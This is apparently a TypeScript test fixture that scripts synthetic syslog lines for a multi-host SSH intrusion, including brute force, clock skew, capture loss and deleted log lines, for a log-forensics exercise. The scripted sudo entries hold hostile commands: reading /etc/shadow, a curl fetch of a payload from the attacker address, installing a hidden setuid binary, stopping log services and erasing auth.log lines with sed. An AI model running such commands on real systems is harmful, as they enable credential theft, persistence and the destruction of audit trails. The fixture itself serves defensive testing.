import type { Random } from '../test/support/random.ts'
import { at, facilities, type Said, SECOND } from './message.ts'

const { authpriv, daemon, kern, local4, syslog } = facilities
const ATTACKER = '198.51.100.23'
const WEB = '192.0.2.13'

export const accepted = `Accepted password for deploy from ${ATTACKER} port 51044 ssh2`
/** From here on relay-01's clock is behind. */
export const clockSetBack = at('18 03:13:05.600000')
/** By so much, in microseconds. */
export const setBackBy = 47_930_000
/** The last that the wire has of db-01, and the last that its disk has. */
export const silentOnWire = at('18 03:31:02')
export const silentOnDisk = at('18 03:31:20')
/** Between these web-03 says nothing but what is told here, so that the numbers come out as they are told. */
export const scripted = { from: at('18 03:09:37'), to: at('18 03:14:30') }
/** Between these the capture lost packets. */
export const dropFrom = at('18 03:12:07.114000')
export const dropTo = at('18 03:12:40.900000')

type Line = readonly [
  time: string,
  app: string,
  pid: number | undefined,
  severity: number,
  text: string,
  more?: Partial<Said>,
]

const deleted = { deleted: true }

/** What the attacker's doings made web-03 say. Times are the sender's, which are 0.8 ms before the wire's. */
const onWeb03: readonly Line[] = [
  ['18 03:09:38.117600', 'sshd', 20817, 6, `Failed password for root from ${ATTACKER} port 50988 ssh2`],
  [
    '18 03:09:40.561300',
    'sshd',
    20817,
    6,
    `message repeated 17 times: [ Failed password for root from ${ATTACKER} port 50988 ssh2]`,
  ],
  [
    '18 03:09:40.562200',
    'sshd',
    20817,
    3,
    `error: maximum authentication attempts exceeded for root from ${ATTACKER} port 50988 ssh2 [preauth]`,
  ],
  [
    '18 03:09:40.563100',
    'sshd',
    20817,
    5,
    `PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ATTACKER}  user=root`,
  ],
  ['18 03:09:44.019500', 'sshd', 20838, 6, `Failed password for invalid user admin from ${ATTACKER} port 51022 ssh2`],
  ['18 03:09:46.730700', 'sshd', 20801, 2, `fatal: Timeout before authentication for ${ATTACKER} port 50902`],
  ['18 03:09:49.206900', 'sshd', 20841, 6, `Failed password for deploy from ${ATTACKER} port 51044 ssh2`],
  ['18 03:09:51.402187', 'sshd', 20841, 6, accepted, { onDisk: accepted.replace(ATTACKER, '198.51.100.77') }],
  [
    '18 03:09:51.404100',
    'sshd',
    20841,
    6,
    'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)',
    deleted,
  ],
  [
    '18 03:10:22.873300',
    'sudo',
    20931,
    1,
    'deploy : command not allowed ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash',
    deleted,
  ],
  [
    '18 03:11:02.317900',
    'sudo',
    20944,
    5,
    'deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tee -a /etc/ssh/sshd_config',
    deleted,
  ],
  [
    '18 03:11:02.318400',
    'sudo',
    20944,
    6,
    'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)',
    deleted,
  ],
  [
    '18 03:12:07.113400',
    'kernel',
    undefined,
    4,
    `nft-out-drop: OUT=eth0 SRC=${WEB} DST=${ATTACKER} LEN=60 PROTO=TCP DPT=4444 SYN`,
    { facility: kern },
  ],
  [
    '18 03:12:40.901500',
    'sudo',
    20990,
    5,
    'deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/install -m 4755 dh /usr/lib/.dh',
    deleted,
  ],
  [
    '18 03:12:41.518000',
    'sshd',
    20902,
    6,
    `sshd[20902]: Disconnected from ${ATTACKER}\x1b[2K\r`,
    { bare: true, only: 'wire' },
  ],
  [
    '18 03:13:20.671100',
    'sudo',
    21007,
    5,
    'deploy : TTY=pts/1 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/systemctl stop lw-seal',
    deleted,
  ],
  [
    '18 03:38:40.516400',
    'sshd',
    20841,
    6,
    `pam_unix(sshd:session): session closed for user deploy; disconnected by user ${ATTACKER} port 51044`,
  ],
  ['18 03:44:12.879800', 'sshd', 21190, 6, `Failed password for invalid user test from ${ATTACKER} port 52201 ssh2`],
  ['18 03:44:15.291300', 'sshd', 21190, 6, `Failed password for invalid user test from ${ATTACKER} port 52201 ssh2`],
  ['18 03:44:18.016700', 'sshd', 21190, 6, `Connection closed by invalid user test ${ATTACKER} port 52201 [preauth]`],
]

/** The evening before: a first look, whose traces in the log rotated since were deleted as well. */
const eveningBefore: readonly Line[] = [
  ['17 22:14:07.310400', 'sshd', 16402, 6, `Invalid user deploy1 from ${ATTACKER} port 39114`, deleted],
  [
    '17 22:14:09.118800',
    'sshd',
    16402,
    6,
    `Connection closed by invalid user deploy1 ${ATTACKER} port 39114 [preauth]`,
    deleted,
  ],
]

const onDb01: readonly Line[] = [
  ['18 03:18:52.229200', 'sshd', 7702, 6, `Failed password for postgres from ${WEB} port 45518 ssh2`],
  ['18 03:19:03.114100', 'sshd', 7702, 6, `Accepted password for postgres from ${WEB} port 45518 ssh2`],
  [
    '18 03:19:03.116800',
    'sshd',
    7702,
    6,
    'pam_unix(sshd:session): session opened for user postgres(uid=26) by (uid=0)',
  ],
  [
    '18 03:31:20.000000',
    'sudo',
    7811,
    5,
    'postgres : TTY=pts/0 ; PWD=/var/lib/postgresql ; USER=root ; COMMAND=/usr/bin/systemctl stop rsyslog',
    { only: 'disk' },
  ],
]

const onRelay01: readonly Line[] = [
  ['18 03:13:05.330200', 'sshd', 1187, 6, `Connection from ${WEB} port 40122 on 192.0.2.5 port 22`],
  ['18 03:13:06.043300', 'sshd', 1187, 6, `Failed password for deploy from ${WEB} port 40122 ssh2`],
  ['18 03:38:41.001300', 'sshd', 1203, 6, `Failed password for root from ${WEB} port 40190 ssh2`],
  ['18 03:41:07.337200', 'sshd', 1203, 6, `Failed password for root from ${WEB} port 40190 ssh2`],
  [
    '18 03:41:09.700600',
    'sshd',
    1203,
    5,
    `PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${WEB}  user=root`,
  ],
]

/** More than one packet can carry. */
const trace = `worker process 1742 exited on signal 11, core dumped; backtrace:${' ngx_http_run_posted_requests+0x5a'.repeat(50)}`

const onWeb01: readonly Line[] = [
  ['18 01:15:20.112000', 'nginx', 1740, 3, trace, { facility: daemon }],
  ['18 01:15:52.845000', 'nginx', 1740, 3, trace, { facility: daemon, cut: true }],
  [
    '18 02:46:02.480000',
    'rsyslogd',
    undefined,
    5,
    'imuxsock[pid 1742]: begin to drop messages due to rate-limiting',
    { facility: syslog },
  ],
  [
    '18 02:47:33.110000',
    'rsyslogd',
    undefined,
    5,
    'imuxsock[pid 1742]: 172 messages lost due to rate-limiting',
    { facility: syslog },
  ],
]

const onFw01: readonly Line[] = [
  [
    '18 02:41:02.100000',
    '%ASA',
    undefined,
    6,
    `%ASA-6-302013: Built inbound TCP connection 88211 for outside:${ATTACKER}/48210 to dmz:${WEB}/22`,
    { facility: local4 },
  ],
  [
    '18 03:09:48.010000',
    '%ASA',
    undefined,
    6,
    `%ASA-6-302013: Built inbound TCP connection 88902 for outside:${ATTACKER}/51044 to dmz:${WEB}/22`,
    { facility: local4 },
  ],
]

/** The whole intrusion, host by host; not in the order of time. */
export function intrusion(random: Random): Said[] {
  const script = [
    ...lines('web-03', eveningBefore),
    ...lines('web-03', onWeb03),
    ...lines('db-01', onDb01),
    ...lines('relay-01', onRelay01),
    ...lines('web-01', onWeb01),
    ...lines('fw-01', onFw01),
  ]
  return [...script, ...bruteForce(random), ...scan(random), ...underSudo(random)]
}

function lines(host: string, list: readonly Line[]): Said[] {
  return list.map(([time, app, pid, severity, text, more]) => {
    return { time: at(time), host, facility: authpriv, severity, app, pid, text, ...more }
  })
}

/** 02:41 to 03:09: passwords guessed at 26 to 46 a minute, as many as three to a connection. */
function bruteForce(random: Random): Said[] {
  const out: Said[] = []
  const users = ['root', 'root', 'root', 'invalid user admin', 'invalid user oracle', 'deploy', 'invalid user test']
  const end = at('18 03:09:37')
  for (let time = at('18 02:41:03'), pid = 18100, port = 47100; time < end; ) {
    const user = users[random.below(users.length)]!
    const say = (severity: number, text: string) => {
      out.push({ time, host: 'web-03', facility: authpriv, severity, app: 'sshd', pid, text })
      time += 400_000 + random.below(2_600_000)
    }
    for (let tries = 1 + random.below(3); tries > 0; tries--)
      say(6, `Failed password for ${user} from ${ATTACKER} port ${port} ssh2`)
    const ending = random.below(12)
    if (ending === 0)
      say(3, `error: maximum authentication attempts exceeded for ${user} from ${ATTACKER} port ${port} ssh2 [preauth]`)
    else if (ending === 1) say(2, `fatal: Timeout before authentication for ${ATTACKER} port ${port}`)
    else if (ending < 5)
      say(5, `PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ATTACKER}`)
    else say(6, `Connection closed by ${ATTACKER} port ${port} [preauth]`)
    pid += 3 + random.below(5)
    port += 1 + random.below(7)
  }
  return out
}

/** With the four of the script, 128 messages lie between sequenceId 1702, the log-in, and 1831, the last before the hole. */
const SCANNED = 124
/** Messages in the hole: 1832 to 1873. */
const LOST = 42
/** Packets of others that the capture lost with them. */
const LOST_OF_OTHERS = 9

/** 03:10 to 03:12:40: web-03 looks for others to break into; its own packet filter tells. */
function scan(random: Random): Said[] {
  const probe = (time: number, more: Partial<Said> = {}): Said => ({
    time,
    host: 'web-03',
    facility: kern,
    severity: 4,
    app: 'kernel',
    text: `nft-out-drop: OUT=eth0 SRC=${WEB} DST=192.0.2.${2 + random.below(200)} LEN=60 PROTO=TCP DPT=${[22, 445, 5432, 6379][random.below(4)]} SYN`,
    ...more,
  })
  const spread = (from: number, to: number, count: number, more?: Partial<Said>) =>
    Array.from({ length: count }, (_, i) => probe(Math.round(from + ((to - from) * (i + 0.5)) / count), more))
  return [
    ...spread(at('18 03:10:24'), at('18 03:12:06'), SCANNED),
    ...spread(dropFrom + SECOND / 100, dropTo - SECOND / 100, LOST, { only: 'dropped' }),
    ...spread(dropFrom + SECOND, dropTo - SECOND, LOST_OF_OTHERS, {
      only: 'dropped',
      host: 'fw-01',
      facility: local4,
      app: '%ASA',
      text: `%ASA-4-106023: Deny tcp src dmz:${WEB}/40001 dst inside:192.0.2.200/22 by access-group "dmz_in" [0x0, 0x0]`,
    }),
  ]
}

/** Lines of auth.log that were deleted: 31 with those of the script. */
const DELETED = 31

/** What deploy did as root, besides what the script tells; and the line that hides it, at 03:14:29. */
function underSudo(random: Random): Said[] {
  const commands = [
    '/usr/bin/id',
    '/usr/bin/cat /etc/shadow',
    '/usr/bin/ls -la /root',
    '/usr/bin/curl -sO http://198.51.100.23/dh',
    '/usr/bin/passwd -S postgres',
    '/usr/bin/ss -tlnp',
  ]
  const base = { host: 'web-03', facility: authpriv, app: 'sudo' }
  const told = onWeb03.filter(([, , , , , more]) => more?.deleted).length
  const [from, to] = [at('18 03:12:41'), at('18 03:14:22')]
  const wanted = DELETED - told
  const out: Said[] = Array.from({ length: wanted }, (_, i) => {
    const time = Math.round(from + ((to - from) * (i + 1)) / wanted)
    const text = `deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=${commands[random.below(commands.length)]}`
    return { ...base, time, severity: 5, pid: 20991 + i, text, deleted: true }
  })
  const hide = 'deploy : TTY=pts/1 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/sed -i @LINES auth.log'
  out.push({ ...base, time: at('18 03:14:29.005600'), severity: 5, pid: 21016, text: hide, only: 'wire' })
  return out
}
